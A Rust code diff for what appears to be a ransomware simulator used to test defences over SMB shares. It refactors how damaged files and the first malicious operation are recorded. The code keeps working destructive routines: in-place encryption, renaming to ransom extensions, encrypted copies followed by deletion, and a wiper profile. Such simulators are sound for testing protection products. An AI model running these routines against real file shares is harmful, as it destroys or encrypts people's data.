@@ -229,12 +229,7 @@ pub fn run(
                 std::thread::sleep(opts.slow_interval);
             }
             report.attempted += 1;
-            let step = Step {
-                session: &session,
-                log,
-                cipher: &cipher,
-                index: i as u64,
-            };
+            let step = Step::new(&session, log, &cipher, i as u64);
             let outcome = match profile {
                 Profile::RenameLockbit | Profile::RenameRandom => {
                     let folder = folder_of(&file.path).to_string();
@@ -256,11 +251,12 @@ pub fn run(
                 }
                 _ => step.damage(profile, &file.path, &extension),
             };
+            if step.touched.get() {
+                report.damaged.push(file.path.clone());
+            }
             match outcome {
                 Ok(()) => {
                     refused_in_row = 0;
-                    report.first_malicious.get_or_insert_with(now);
-                    report.damaged.push(file.path.clone());
                 }
                 Err(e) if e.is_denied() => {
                     report.refused += 1;
@@ -280,6 +276,7 @@ pub fn run(
         }
     }
     if report.first_malicious.is_none() {
+        // Send time of the first accepted malicious operation.
         report.first_malicious = log.first_malicious();
     }
     report.elapsed_ms = start.elapsed().as_millis();
@@ -302,30 +299,57 @@ struct Step<'a> {
     log: &'a OpLog,
     cipher: &'a Cipher,
     index: u64,
+    /// Set once a malicious operation on this file succeeded (the file is
+    /// damaged even if a later step, e.g. the rename, is refused).
+    touched: std::cell::Cell<bool>,
 }
 
 impl Step<'_> {
-    fn logged<T>(&self, op: &str, path: &str, malicious: bool, r: Result<T>) -> Result<T> {
-        self.log.record(
+    fn new<'a>(
+        session: &'a SmbSession,
+        log: &'a OpLog,
+        cipher: &'a Cipher,
+        index: u64,
+    ) -> Step<'a> {
+        Step {
+            session,
+            log,
+            cipher,
+            index,
+            touched: std::cell::Cell::new(false),
+        }
+    }
+
+    fn logged<T>(
+        &self,
+        op: &str,
+        path: &str,
+        malicious: bool,
+        f: impl FnOnce() -> Result<T>,
+    ) -> Result<T> {
+        let started = chrono::Utc::now();
+        let r = f();
+        self.log.record_started(
             op,
             path,
             malicious,
+            started,
             r.as_ref().map(|_| ()).map_err(|e| e.to_string()),
         );
+        if malicious && r.is_ok() {
+            self.touched.set(true);
+        }
         r
     }
 
     fn read(&self, path: &str) -> Result<Vec<u8>> {
-        self.logged("read", path, false, self.session.read(path))
+        self.logged("read", path, false, || self.session.read(path))
     }
 
     fn write_at(&self, path: &str, regions: Vec<(u64, Vec<u8>)>) -> Result<()> {
-        self.logged(
-            "write_at",
-            path,
-            true,
-            self.session.write_at(path, &regions),
-        )
+        self.logged("write_at", path, true, || {
+            self.session.write_at(path, &regions)
+        })
     }
 
     fn damage(&self, profile: Profile, path: &str, extension: &str) -> Result<()> {
@@ -339,14 +363,14 @@ impl Step<'_> {
                 let data = self.read(path)?;
                 self.write_at(path, vec![(0, self.cipher.encrypt(key, &data))])?;
                 let to = format!("{path}{extension}");
-                self.logged("rename", path, true, self.session.rename(path, &to))
+                self.logged("rename", path, true, || self.session.rename(path, &to))
             }
             Profile::NewDelete => {
                 let data = self.read(path)?;
                 let to = format!("{path}.locked");
                 let encrypted = self.cipher.encrypt(key, &data);
-                self.logged("write", &to, true, self.session.write(&to, &encrypted))?;
-                self.logged("unlink", path, true, self.session.unlink(path))
+                self.logged("write", &to, true, || self.session.write(&to, &encrypted))?;
+                self.logged("unlink", path, true, || self.session.unlink(path))
             }
             Profile::LockFile => {
                 let mut data = self.read(path)?;
@@ -378,14 +402,11 @@ impl Step<'_> {
             Profile::Base64 => {
                 let data = self.read(path)?;
                 let encoded = base64(&self.cipher.encrypt(key, &data));
-                self.logged(
-                    "write",
-                    path,
-                    true,
-                    self.session.write(path, encoded.as_bytes()),
-                )
+                self.logged("write", path, true, || {
+                    self.session.write(path, encoded.as_bytes())
+                })
             }
-            Profile::Wiper => self.logged("unlink", path, true, self.session.unlink(path)),
+            Profile::Wiper => self.logged("unlink", path, true, || self.session.unlink(path)),
         }
     }
 }
@@ -508,17 +529,14 @@ mod fast {
             let mut refused_in_row = 0;
             for (i, file) in files.iter().enumerate() {
                 summary.attempted += 1;
-                let step = Step {
-                    session: &session,
-                    log,
-                    cipher: &cipher,
-                    index: (i as u64) << 8 | w,
-                };
-                match step.damage(Profile::Fast, &file.path, "") {
+                let step = Step::new(&session, log, &cipher, (i as u64) << 8 | w);
+                let outcome = step.damage(Profile::Fast, &file.path, "");
+                if step.touched.get() {
+                    summary.damaged.push(file.path.clone());
+                }
+                match outcome {
                     Ok(()) => {
                         refused_in_row = 0;
-                        summary.first_malicious.get_or_insert_with(now);
-                        summary.damaged.push(file.path.clone());
                     }
                     Err(e) if e.is_denied() => {
                         summary.refused += 1;
@@ -536,6 +554,7 @@ mod fast {
                 }
             }
         }
+        summary.first_malicious = log.first_malicious();
         serde_json::to_string(&summary).unwrap_or_default()
     }
 }
